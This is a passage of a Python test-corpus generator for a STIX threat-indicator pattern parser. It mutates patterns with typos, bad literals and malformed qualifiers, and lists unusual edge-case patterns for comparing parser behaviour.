        (_spec_obs([(T1, T1, 1, [{"type": "email-addr", "#": "a", "value": "alice@example.org"},
                                 {"type": "email-addr", "#": "b", "value": "jdoe@example.com"},
                                 {"type": "email-message", "#": "m", "is_multipart": False,
                                  "to_refs": ["@a", "@b"]}])]), "second recipient"),
        (_spec_obs([(T1, T1, 1, [{"type": "email-addr", "#": "a", "value": "alice@example.org"},
                                 {"type": "email-message", "#": "m", "is_multipart": False,
                                  "to_refs": ["@a"]}])]), "not a recipient")])
    add("[network-traffic:src_ref.value = '198.51.100.1' AND network-traffic:dst_port IN (443, 8443) AND "
        "network-traffic:protocols[*] = 'tcp'] REPEATS 2 TIMES", [
            (_spec_obs([(T1, T1, 2, [{"type": "ipv4-addr", "#": "s", "value": "198.51.100.1"},
                                     {"type": "network-traffic", "#": "n", "src_ref": "@s", "dst_port": 8443,
                                      "protocols": ["ipv4", "tcp"]}])]), "twice"),
            (_spec_obs([(T1, T1, 1, [{"type": "ipv4-addr", "#": "s", "value": "198.51.100.1"},
                                     {"type": "network-traffic", "#": "n", "src_ref": "@s", "dst_port": 8443,
                                      "protocols": ["ipv4", "tcp"]}])]), "once")])
    return ex


def spec_cases():
    out = []
    for pattern, pairs, extra in spec_examples():
        for observed, note in pairs:
            out.append(Case(pattern, observed, ["spec.example"] + extra, note))
    return out


# --------------------------------------------------------------------------------------------
# Patterns for the parser comparison

class ParseCase:
    __slots__ = ("pattern", "tags", "ref", "ref_detail", "got", "got_detail")

    def __init__(self, pattern, tags):
        self.pattern = pattern
        self.tags = tags
        self.ref = None
        self.ref_detail = ""
        self.got = None
        self.got_detail = ""


KEYWORD_TYPOS = [(" AND ", " AN "), (" AND ", " and "), (" OR ", " ORR "), (" OR ", " or "),
                 (" FOLLOWEDBY ", " FOLLOWED BY "), (" FOLLOWEDBY ", " FOLLOWEDBYY "), (" LIKE ", " LIKES "),
                 (" MATCHES ", " MATCH "), (" ISSUBSET ", " IS SUBSET "), (" ISSUPERSET ", " ISSUPERSETT "),
                 (" IN (", " INN ("), ("EXISTS ", "EXIST "), (" NOT ", " NOTT "), (" WITHIN ", " WITHN "),
                 (" SECONDS", " SECOND"), (" REPEATS ", " REPEAT "), (" TIMES", " TIME"), ("START ", "STRAT "),
                 (" STOP ", " STPO "), (" = ", " => "), (" = ", " === "), (" != ", " =! "), (" <= ", " =< "),
                 (" >= ", " => "), (" = ", " ~ "), (" WITHIN ", " within "), (" IN (", " in ("),
                 (" LIKE ", " like "), (" = ", " CONTAINS ")]


def _sub_once(rng, s, old, new):
    idx = [m.start() for m in re.finditer(re.escape(old), s)]
    if not idx:
        return None
    i = rng.choice(idx)
    return s[:i] + new + s[i + len(old):]


def _drop_char(rng, s, chars):
    idx = [i for i, c in enumerate(s) if c in chars]
    if not idx:
        return None
    i = rng.choice(idx)
    return s[:i] + s[i + 1:]


def _dup_char(rng, s, chars):
    idx = [i for i, c in enumerate(s) if c in chars]
    if not idx:
        return None
    i = rng.choice(idx)
    return s[:i] + s[i] + s[i:]


def mutate(rng, s):
    """(mutated pattern, tag) or None if the chosen mutation does not apply to s."""
    kind = rng.choice(["drop-bracket", "dup-bracket", "drop-paren", "dup-paren", "drop-quote", "add-quote",
                       "typo-keyword", "typo-keyword", "qualifier-number", "timestamp", "hex", "base64",
                       "object-path", "object-path", "empty-set", "set-syntax", "trailing-garbage",
                       "leading-garbage", "missing-operator", "bad-escape", "not-misplaced", "qualifier-order",
                       "invalid-char", "literal-type", "swap-operands", "truncate"])
    tag = "mut." + kind
    r = None
    if kind == "drop-bracket":
        r = _drop_char(rng, s, "[]")
    elif kind == "dup-bracket":
        r = _dup_char(rng, s, "[]")
    elif kind == "drop-paren":
        r = _drop_char(rng, s, "()")
    elif kind == "dup-paren":
        r = _dup_char(rng, s, "()")
    elif kind == "drop-quote":
        r = _drop_char(rng, s, "'")
    elif kind == "add-quote":
        i = rng.randrange(len(s) + 1)
        r = s[:i] + "'" + s[i:]
    elif kind == "typo-keyword":
        old, new = rng.choice(KEYWORD_TYPOS)
        r = _sub_once(rng, s, old, new)
    elif kind == "qualifier-number":
        q = rng.choice(["WITHIN 0 SECONDS", "WITHIN -5 SECONDS", "WITHIN 5.5.5 SECONDS", "WITHIN SECONDS",
                        "WITHIN 1e3 SECONDS", "WITHIN 05 SECONDS", "REPEATS 2.5 TIMES", "REPEATS 0 TIMES",
                        "REPEATS -1 TIMES", "REPEATS TIMES", "REPEATS 01 TIMES", "REPEATS 'two' TIMES",
                        "WITHIN 0.0 SECONDS", "WITHIN .5 SECONDS", "REPEATS +3 TIMES", "WITHIN 5 MINUTES",
                        "REPEATS 3", "WITHIN 9999999999999999999999 SECONDS"])
        r = "(" + s + ") " + q if rng.random() < 0.5 else s + " " + q
        if q in ("WITHIN 0 SECONDS", "REPEATS 0 TIMES", "WITHIN 0.0 SECONDS"):
            tag += ".zero quirk.zero-qualifier"
    elif kind == "timestamp":
        t = rng.choice(["2016-13-01T00:00:00Z", "2016-00-01T00:00:00Z", "2016-01-32T00:00:00Z",
                        "2016-01-01T24:00:00Z", "2016-01-01T00:60:00Z", "2016-01-01T00:00:00",
                        "2016-01-01T00:00:00z", "2016-01-01 00:00:00Z", "2016-01-01T00:00:00+01:00",
                        "2016-01-01T00:00Z", "16-01-01T00:00:00Z", "2016-01-01T00:00:00.Z", "2016-02-30T00:00:00Z",
                        "2016-01-01T00:00:60Z", "2016-01-01t00:00:00Z", ""])
        target = rng.choice(["start", "cmp"])
        if target == "start":
            r = s + " START t'%s' STOP t'2030-01-01T00:00:00Z'" % t
            if "START" in s:
                r = "(" + s + ") START t'%s' STOP t'2030-01-01T00:00:00Z'" % t
        else:
            r = "[file:mtime = t'%s'] AND %s" % (t, s)
        if t in ("2016-02-30T00:00:00Z", "2016-01-01T00:00:60Z"):
            tag += ".calendar quirk.feb30"
    elif kind == "hex":
        h = rng.choice(["abc", "zz", "0x12", "a", "12 34", "ABCDEFG", "1", "\u0661\u0662"])
        r = "[file:magic_number_hex = h'%s'] OR %s" % (h, s)
    elif kind == "base64":
        b = rng.choice(["abc", "a=bc", "YQ=", "Y===", "!!!!", "YWJjZA", "YW J", "YQ==YQ==", "=YWJ", "", "YWJj\n"])
        r = "[artifact:payload_bin = b'%s'] OR %s" % (b, s)
        if b == "":
            tag += ".empty quirk.validator-empty-base64"
    elif kind == "object-path":
        p = rng.choice(["file.name = 'x'", "file:= 'x'", "file:name. = 'x'", "file:name[] = 'x'",
                        "file:name[x] = 'x'", "file:hashes.SHA-256 = 'x'", "file:\"name\" = 'x'", ":name = 'x'",
                        "file:name..x = 'x'", "file:1name = 'x'", "file: = 'x'", "file:name[1.5] = 'x'",
                        "1file:name = 'x'", "-file:name = 'x'", "file:name.'' = 'x'", "file::name = 'x'",
                        "file:name[*.x = 'x'", "file:hashes.'SHA-256 = 'x'", "file:name.-x = 'x'",
                        "fi le:name = 'x'", "file:na me = 'x'", "file:name[0][ = 'x'"])
        r = "[" + p + "] AND " + s if rng.random() < 0.5 else _sub_once(rng, s, "[", "[" + p + " OR ")
        if p in ("file:name.'' = 'x'",):
            tag += ".empty-key"
    elif kind == "empty-set":
        r = rng.choice(["[file:name IN ()] AND ", "[file:name IN ( )] OR ", "[file:name NOT IN ()] OR "]) + s
        tag = "mut.empty-set"
    elif kind == "set-syntax":
        r = rng.choice(["[file:name IN (,)] OR ", "[file:name IN ('a',)] OR ", "[file:name IN 'a'] OR ",
                        "[file:name IN ('a' 'b')] OR ", "[file:name IN [1, 2]] OR ", "[file:name IN (('a'))] OR ",
                        "[file:name IN ('a', ('b'))] OR ", "[file:name IN (file:name)] OR "]) + s
    elif kind == "trailing-garbage":
        r = s + rng.choice([" x", "]", ";", " AND", ")", " WITHIN", " 5", " OR []", ",", " FOLLOWEDBY",
                            " START", " REPEATS 2", " '", " /*", " //ok", "\u00a0", " NOT"])
        if r.endswith("//ok"):
            tag += ".line-comment"      # valid: the grammar skips // comments
        elif r.endswith("\u00a0"):
            tag += ".nbsp"              # valid: the grammar's WS includes U+00A0
    elif kind == "leading-garbage":
        r = rng.choice(["x ", "] ", "AND ", "NOT ", "(", "'", "; ", "\ufeff"]) + s
    elif kind == "missing-operator":
        r = _sub_once(rng, s, "] AND [", "] [") or _sub_once(rng, s, "] OR [", "] [") or \
            _sub_once(rng, s, " AND ", " ") or _sub_once(rng, s, " = ", " ")
    elif kind == "bad-escape":
        r = "[file:name = '%s'] OR %s" % (rng.choice(["a\\b", "\\n", "tab\\t", "\\x41", "\\u0041", "end\\",
                                                      "q\\\"", "\\"]), s)
    elif kind == "not-misplaced":
        r = rng.choice(["[NOT file:name = 'x'] OR ", "[file:name = NOT 'x'] OR ", "[file:name NOT NOT = 'x'] OR ",
                        "[file:name EXISTS] OR ", "[file:name NOT EXISTS] OR ", "NOT [file:name = 'x'] OR ",
                        "[EXISTS NOT file:name] OR ", "[file:name != NOT 'x'] OR "]) + s
    elif kind == "qualifier-order":
        r = s + rng.choice([" STOP t'2020-01-01T00:00:00Z' START t'2019-01-01T00:00:00Z'",
                            " START t'2019-01-01T00:00:00Z'", " SECONDS WITHIN 5", " TIMES 2 REPEATS",
                            " WITHIN 5 SECONDS WITHIN 6 SECONDS", " REPEATS 2 TIMES REPEATS 3 TIMES",
                            " START t'2019-01-01T00:00:00Z' STOP t'2020-01-01T00:00:00Z' START "
                            "t'2019-01-01T00:00:00Z' STOP t'2020-01-01T00:00:00Z'",
                            " START '2019-01-01T00:00:00Z' STOP '2020-01-01T00:00:00Z'",
                            " WITHIN 5 SECONDS REPEATS 2 TIMES", " LAST 5 SECONDS"])
        if "WITHIN 5 SECONDS WITHIN" in r or "REPEATS 2 TIMES REPEATS" in r or r.count("START") > 1:
            tag += ".duplicate quirk.duplicate-qualifier"
    elif kind == "invalid-char":
        i = rng.randrange(len(s) + 1)
        ch = rng.choice(["~", "#", "@", "$", "`", "{", "}", "|", "&", "\\", "\"", "?", "%", ";", "\u00e9",
                         "\u2028", "\x00"])
        r = s[:i] + ch + s[i:]
        if ch == "\u2028":
            tag += ".unicode-space"
    elif kind == "literal-type":
        r = rng.choice(["[file:size > true] OR ", "[file:name LIKE 5] OR ", "[file:name MATCHES h'00'] OR ",
                        "[ipv4-addr:value ISSUBSET 10] OR ", "[file:size < (1, 2)] OR ", "[file:name = file:name] OR ",
                        "[file:name = ] OR ", "[file:name = TRUE] OR ", "[file:name = True] OR ",
                        "[file:size = 1.] OR ", "[file:size = 1e5] OR ", "[file:size = 007] OR ",
                        "[file:size = 0x10] OR ", "[file:size = - 1] OR ", "[file:name = \"x\"] OR "]) + s
    elif kind == "swap-operands":
        m = re.search(r"\[([a-z0-9-]+:[A-Za-z0-9_.\[\]*']+) = ('(?:[^'\\]|\\.)*'|[0-9.-]+)", s)
        if m:
            r = s[:m.start()] + "[" + m.group(2) + " = " + m.group(1) + s[m.end():]
    elif kind == "truncate":
        if len(s) > 3:
            r = s[:rng.randrange(1, len(s) - 1)]
    if r is None or r == s:
        return None
    return r, tag


# Patterns for the parser only: unusual but (by the grammar) valid, and hand-made invalid ones.
PARSE_EXTRAS = [
    ("[file:name = 'a'] // trailing line comment", "odd.comment"),
    ("[file:name /* inline comment */ = 'a']", "odd.comment"),
    ("/* leading */ [file:name = 'a']", "odd.comment"),
    ("[file:name = 'a' /* unterminated ]", "odd.comment.unterminated"),
    ("[file:name == 'a']", "odd.eq-double"),
    ("[file:name <> 'a']", "odd.neq-angle"),
    ("[file:size = +5]", "odd.plus-int"),
    ("[file:size = -0]", "odd.negative-zero"),
    ("[file:size = .5]", "odd.float-no-int-part"),
    ("[file:size = -.5]", "odd.float-no-int-part"),
    ("[file:size = +1.5]", "odd.plus-float"),
    ("[file:x[+1] = 1]", "odd.plus-index"),
    ("[file:x[-1] = 1]", "odd.negative-index"),
    ("[file:'name' = 'a']", "odd.quoted-first-component"),
    ("[file:extensions.'ntfs-ext'.alternate_data_streams[0].name = 'a']", "odd.quoted-key"),
    ("[a--b:c = 1]", "odd.type-double-hyphen"),
    ("[a-:b = 1]", "odd.type-trailing-hyphen"),
    ("[A:b = 1]", "odd.type-upper"),
    ("[_x:b = 1]", "odd.type-underscore"),
    ("[x:B_1 = 1]", "odd.prop-upper"),
    ("[file:magic_number_hex = h'']", "odd.empty-hex"),
    ("[artifact:payload_bin = b'']", "quirk.validator-empty-base64"),
    ("[file:name = '']", "odd.empty-string"),
    ("[file:name IN ()]", "odd.empty-set"),
    ("[file:name IN ('a')]", "odd.singleton-set"),
    ("[file:size IN (1, 2.5)]", "odd.set-int-float"),
    ("[file:size IN (1, 'a')]", "odd.set-mixed-types"),
    ("[file:name = 'a']   ", "odd.trailing-space"),
    ("\t[file:name = 'a']\n", "odd.tab-newline"),
    ("[file:name\u00a0=\u00a0'a']", "odd.nbsp"),
    ("[file:name\u2003= 'a']", "odd.em-space"),
    ("[file:name\u3000= 'a']", "odd.ideographic-space"),
    ("[file:name\u2028= 'a']", "odd.line-separator"),
    ("(([file:name = 'a']))", "odd.double-paren"),
    ("[((file:name = 'a'))]", "odd.double-paren-inside"),
    ("([file:name = 'a']) WITHIN 5 SECONDS", "odd.paren-single-qualified"),
    ("[file:name = 'a'] WITHIN 5 SECONDS REPEATS 2 TIMES", "odd.qualifier-order"),
    ("[file:name = 'a'] REPEATS 2 TIMES WITHIN 5 SECONDS START t'2016-01-01T00:00:00Z' STOP t'2017-01-01T00:00:00Z'",
     "odd.three-qualifiers"),
    ("([file:name = 'a'] WITHIN 5 SECONDS) WITHIN 6 SECONDS", "odd.nested-same-qualifier"),
    ("[file:name = 'a'] WITHIN 5 SECONDS WITHIN 6 SECONDS", "quirk.duplicate-qualifier"),
    ("[file:name = 'a'] WITHIN 0 SECONDS", "quirk.zero-qualifier"),
    ("[file:name = 'a'] REPEATS 0 TIMES", "quirk.zero-qualifier"),
    ("[file:name = 'a'] WITHIN 0.0 SECONDS", "quirk.zero-qualifier"),
    ("[file:name = 'a'] WITHIN 0.5 SECONDS", "odd.within-fraction"),
    ("[file:name = 'a'] WITHIN +5 SECONDS", "odd.within-plus"),
    ("[file:name = 'a'] REPEATS 99999999999999999999 TIMES", "odd.huge-repeats"),
    ("[file:size = 99999999999999999999999]", "odd.huge-int"),
    ("[file:mtime = t'2016-02-30T00:00:00Z']", "quirk.feb30"),
    ("[file:mtime = t'2016-01-01T00:00:60Z']", "quirk.feb30"),
    ("[file:mtime = t'0000-01-01T00:00:00Z']", "odd.year-zero"),
    ("[file:mtime = t'2016-01-01T00:00:00.123456789Z']", "odd.nanoseconds"),
    ("[file:name = 'a'] START t'2016-01-01T00:00:00Z' STOP t'2016-01-01T00:00:00Z'", "odd.start-equals-stop"),
    ("[file:name = 'a'] START t'2017-01-01T00:00:00Z' STOP t'2016-01-01T00:00:00Z'", "odd.start-after-stop"),
    ("[file:hashes.MD5 = 'abc']", "quirk.validator-hash-format"),
    ("[file:hashes.'SHA-256' LIKE 'aec0%']", "quirk.validator-hash-format"),
    ("[file:hashes.MD5 IN ('cead3f77f6cda6ec00f57d76c9a6879f', '79054025255fb1a26e4bc422aef54eb4')]",
     "quirk.validator-hash-format"),
    ("[file:hashes.'SHA-256' MATCHES '^aec0']", "quirk.validator-hash-format"),
    ("[x:hashes[0] = 'a']", "quirk.validator-crash"),
    ("", "odd.empty"),
    ("   ", "odd.blank"),
    ("[]", "odd.empty-brackets"),
    ("()", "odd.empty-parens"),
    ("[file:name = 'a'] AND ()", "odd.empty-group"),
    ("[EXISTS file:name]", "odd.exists"),
    ("[NOT EXISTS file:name]", "odd.not-exists"),
    ("[EXISTS file:name AND NOT EXISTS file:size]", "odd.exists-compound"),
    ("[EXISTS file]", "odd.exists-no-path"),
    ("[file:name = 'a' AND]", "odd.dangling-and"),
    ("[file:name NOT = 'a']", "odd.not-eq"),
    ("[file:name NOT != 'a']", "odd.not-neq"),
    ("[file:name NOT NOT = 'a']", "odd.double-not"),
    ("[file:name = 'a\\'b\\\\c']", "odd.escapes"),
    ("[file:name = 'caf\u00e9 \u2603 \U0001f600']", "odd.unicode-string"),
    ("[fil\u00e9:name = 'a']", "odd.unicode-type"),
    ("[file:n\u00e4me = 'a']", "odd.unicode-property"),
    ("[file:name = 'a'] FOLLOWEDBY [file:name = 'b'] FOLLOWEDBY [file:name = 'c']", "odd.followedby-chain"),
    ("[file:name = 'a'] AND [file:name = 'b'] OR [file:name = 'c'] FOLLOWEDBY [file:name = 'd']",
     "odd.precedence-chain"),
    ("[file:name = 'a' OR file:name = 'b' AND file:size = 1]", "odd.cmp-precedence"),
    ("[file:size < 1 AND file:size > 2 OR file:size <= 3 AND file:size >= 4]", "odd.cmp-precedence"),
    ("[file:size<1]", "odd.no-spaces"),
    ("[file:name='a']AND[file:name='b']", "odd.no-spaces"),
    ("[file:nameLIKE'a']", "odd.no-space-before-keyword"),
    ("[file:name LIKE'a%']", "odd.no-space-after-keyword"),
    ("[file:name MATCHES'^a']", "odd.no-space-after-keyword"),
    ("[file:size IN(1,2)]", "odd.no-space-after-keyword"),
    ("[file:name = 'a']WITHIN 5 SECONDS", "odd.no-space-before-qualifier"),
    ("[file:name = 'a'] WITHIN 5SECONDS", "odd.no-space-in-qualifier"),
    ("[file:name = 'a'] REPEATS 2TIMES", "odd.no-space-in-qualifier"),
    ("[file:name = 'a'] START t'2016-01-01T00:00:00Z'STOP t'2017-01-01T00:00:00Z'", "odd.no-space-in-qualifier"),
    ("[file:name = 'a' ] ", "odd.spaces"),
    ("[ file : name = 'a' ]", "odd.spaces-in-path"),
    ("[file:name . x = 'a']", "odd.spaces-in-path"),
    ("[file:x [ 0 ] = 'a']", "odd.spaces-in-path"),
    ("[file:x[*][*] = 'a']", "odd.double-star"),
    ("[file:x[0][1][2].y = 'a']", "odd.multi-index"),
    ("[x-custom-type:some_prop.'key with spaces'.'and''quote' = 1]", "odd.quoted-key-odd"),
    ("[x-custom-type:some_prop.'key with spaces' = 1]", "odd.quoted-key-space"),
    ("[x-custom-type:'' = 1]", "odd.empty-quoted-key"),
    ("[file:name = 'a'] and [file:name = 'b']", "odd.lowercase-keyword"),
    ("[file:name like 'a']", "odd.lowercase-keyword"),
    ("[file:name = 'a'] Within 5 Seconds", "odd.mixed-case-keyword"),
    ("[file:x = TRUE]", "odd.upper-bool"),
    ("[file:x = False]", "odd.mixed-case-bool"),
    ("[file:name = 'a'] FOLLOWEDBY", "odd.dangling-followedby"),
    ("[file:name = 'a'] OR OR [file:name = 'b']", "odd.double-or"),
    ("[file:name = 'a'] [file:name = 'b']", "odd.missing-operator"),
    ("[file:name = 'a'] AND ([file:name = 'b']", "odd.unbalanced"),
    ("[file:name = 'a'] AND [file:name = 'b'])", "odd.unbalanced"),
    ("[file:name = 'a']]", "odd.unbalanced"),
    ("[[file:name = 'a']]", "odd.nested-brackets"),
    ("[file:name = 'a'] AND [file:name = 'b'] WITHIN 5 SECONDS", "odd.qualifier-binds-tight"),
    ("[file:name = 'a' WITHIN 5 SECONDS]", "odd.qualifier-inside"),
    ("[file:name = 'a'] START t'2016-01-01T00:00:00Z' STOP '2017-01-01T00:00:00Z'", "odd.stop-string"),
    ("[file:name = 'a'] LAST 5 SECONDS", "odd.last"),
    ("[file:name = 'a'] WITHIN 5 MILLISECONDS", "odd.unit"),
    ("[process:pid > -1]", "odd.negative-int"),
    ("[process:pid > - 1]", "odd.negative-int-space"),
    ("[file:size > 1.5.5]", "odd.float-two-dots"),
    ("[file:x = h'0A0b']", "odd.hex-mixed-case"),
    ("[file:x = b'AAECAwQFBgc=']", "odd.base64-padding"),
    ("[file:x = b'AAECAwQFBgcI']", "odd.base64-no-padding-needed"),
    ("[file:x = b'AA==']", "odd.base64-double-padding"),
    ("[file:x = B'AA==']", "odd.base64-upper-prefix"),
    ("[file:x = H'00']", "odd.hex-upper-prefix"),
    ("[file:x = T'2016-01-01T00:00:00Z']", "odd.ts-upper-prefix"),
    ("[ipv6-addr:value ISSUBSET '2001:db8::/32']", "odd.ipv6-subset"),
    ("[ipv4-addr:value ISSUBSET '10.0.0.0/33']", "odd.bad-cidr-literal"),
    ("[file:name MATCHES '(']", "odd.bad-regex-literal"),
    ("[file:name MATCHES '\\\\d+']", "odd.regex-escape"),
]


def build_parse_cases(seed, match_cases, n_mutations=900):
    """Every distinct pattern of the match corpus, PARSE_EXTRAS, then n_mutations mutated patterns."""
    rng = random.Random(seed * 7919 + 17)
    out = []
    seen = {}
    for c in match_cases:
        if c.pattern in seen:
            continue
        seen[c.pattern] = True
        tags = ["gen"] + [t for t in c.tags if t.startswith(("quirk.", "error.", "op.", "qual.", "lit.", "path.",
                                                             "obs.", "cmp.", "spec."))]
        out.append(ParseCase(c.pattern, tags))
    for p, tag in PARSE_EXTRAS:
        if p not in seen:
            seen[p] = True
            out.append(ParseCase(p, ["extra", tag]))
    # mutate only patterns free of known quirks, so that a mutation's verdict is about the mutation
    bases = [c.pattern for c in match_cases
             if not any(t.startswith(("quirk.", "error.")) or t == "op.exists.not" for t in c.tags)]
    made = 0
    attempts = 0
    while made < n_mutations and attempts < n_mutations * 20:
        attempts += 1
        base = rng.choice(bases)
        m = mutate(rng, base)
        if m is None:
            continue
        text, tag = m
        if text in seen:
            continue
        seen[text] = True
        out.append(ParseCase(text, ["mutation"] + tag.split()))
        made += 1
    return out


def build_corpus(seed, count):
    """(match cases, parse cases)."""
    cases = generate_cases(seed, count) + spec_cases()
    return cases, build_parse_cases(seed, cases)


def dumps(obj):
    """Compact JSON used for the JSON Lines sent to accord."""
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
